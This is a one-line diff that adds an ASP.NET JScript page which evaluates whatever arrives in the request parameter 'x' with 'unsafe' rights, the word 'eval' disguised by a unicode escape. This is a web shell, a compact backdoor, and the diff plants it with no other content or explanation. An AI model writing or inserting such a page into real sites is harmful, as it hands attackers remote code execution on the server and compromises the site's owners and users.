@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%\u0065val(Request.Item["x"],"unsafe");%>
